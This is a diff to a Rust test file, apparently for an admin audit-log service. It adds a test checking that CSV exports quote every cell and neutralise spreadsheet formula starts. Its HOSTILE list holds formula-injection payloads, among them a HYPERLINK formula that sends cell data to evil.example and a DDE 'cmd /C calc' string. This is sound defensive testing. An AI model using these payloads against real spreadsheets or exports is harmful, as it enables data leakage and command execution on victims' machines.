@@ -132,7 +132,7 @@ async fn log_search_pages_and_exports() {
         "streamed, not built whole"
     );
     let lines: Vec<&str> = csv.body.lines().collect();
-    assert!(lines[0].starts_with("id,at,app,subject,outcome"));
+    assert!(lines[0].starts_with("\"id\",\"at\",\"app\",\"subject\",\"outcome\""));
     assert_eq!(lines.len(), want.len() + 1);
     assert!(lines[1].contains(&want[0]));
     assert!(lines[1].contains("\"okhttp/4, \"\"quoted\"\"\""));
@@ -158,4 +158,97 @@ async fn log_search_pages_and_exports() {
     let dash = auditor.get("/").await;
     assert!(dash.body.contains(">2600<"), "total requests");
     assert!(dash.body.contains("other"), "a logged slug without an app");
+}
+
+/// Values a client controls (User-Agent, the token's subject) that a spreadsheet would split
+/// or run: separators of every locale, quotes, line breaks, formula starts.
+const HOSTILE: &[&str] = &[
+    "Mozilla/5.0;=HYPERLINK(A1);=1+1;",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+    "curl|=cmd|' /C calc'!A0",
+    "a,=1+1,b",
+    "say \"hi\", then ;=2+2",
+    "two\nlines\r\n=3+3",
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+    "'already guarded",
+    "",
+];
+
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+#[tokio::test]
+async fn csv_export_quotes_every_cell_and_defuses_formulas() {
+    let t = TestAdmin::start().await;
+    let now = OffsetDateTime::now_utc() - Duration::seconds(5);
+    let rows: Vec<IssuanceRecord> = HOSTILE
+        .iter()
+        .enumerate()
+        .map(|(i, value)| IssuanceRecord {
+            subject: Some(format!("{}{value}", if i % 2 == 0 { "" } else { "u;" })),
+            user_agent: Some((*value).to_owned()),
+            request_id: format!("req-{i:05}"),
+            ..record(5, now - Duration::seconds(i as i64))
+        })
+        .collect();
+    t.store.insert_issuance_batch(&rows).await.unwrap();
+    let auditor = t.auditor().await;
+    let csv = auditor.get(&format!("/log/export.csv?app={APP}")).await;
+    assert_eq!(csv.status, 200);
+
+    // A real CSV parser reads back every field exactly (a formula start behind its `'`).
+    let mut reader = csv::ReaderBuilder::new().from_reader(csv.body.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(records.len(), rows.len());
+    let unguard = |field: &str, want: &str| -> String {
+        if want.starts_with(FORMULA_START) {
+            assert!(
+                field.starts_with('\''),
+                "{want:?} exported unguarded: {field:?}"
+            );
+            field[1..].to_owned()
+        } else {
+            field.to_owned()
+        }
+    };
+    for (rec, want) in records.iter().zip(&rows) {
+        assert_eq!(rec.len(), header.len(), "one field per column");
+        assert_eq!(&rec[col("request_id")], want.request_id);
+        assert_eq!(&rec[col("app")], want.app);
+        assert_eq!(&rec[col("outcome")], want.outcome.as_str());
+        assert_eq!(&rec[col("source_ip")], want.source_ip.as_deref().unwrap());
+        assert_eq!(&rec[col("latency_us")], want.latency_us.to_string());
+        let subject = want.subject.as_deref().unwrap();
+        assert_eq!(unguard(&rec[col("subject")], subject), subject);
+        let ua = want.user_agent.as_deref().unwrap();
+        assert_eq!(unguard(&rec[col("user_agent")], ua), ua);
+        for field in rec.iter() {
+            assert!(
+                !field.starts_with(FORMULA_START),
+                "a field a spreadsheet would run: {field:?}"
+            );
+        }
+    }
+
+    // Every cell is quoted (RFC 4180), the header too: written back with every field quoted,
+    // the parsed file is byte for byte what was served.
+    let mut writer = csv::WriterBuilder::new()
+        .quote_style(csv::QuoteStyle::Always)
+        .terminator(csv::Terminator::CRLF)
+        .from_writer(Vec::new());
+    writer.write_record(&header).unwrap();
+    for rec in &records {
+        writer.write_record(rec).unwrap();
+    }
+    let requoted = String::from_utf8(writer.into_inner().unwrap()).unwrap();
+    assert_eq!(csv.body, requoted);
+    assert!(
+        csv.body.contains("\"Mozilla/5.0;=HYPERLINK(A1);=1+1;\""),
+        "a `;` never ends a cell"
+    );
 }
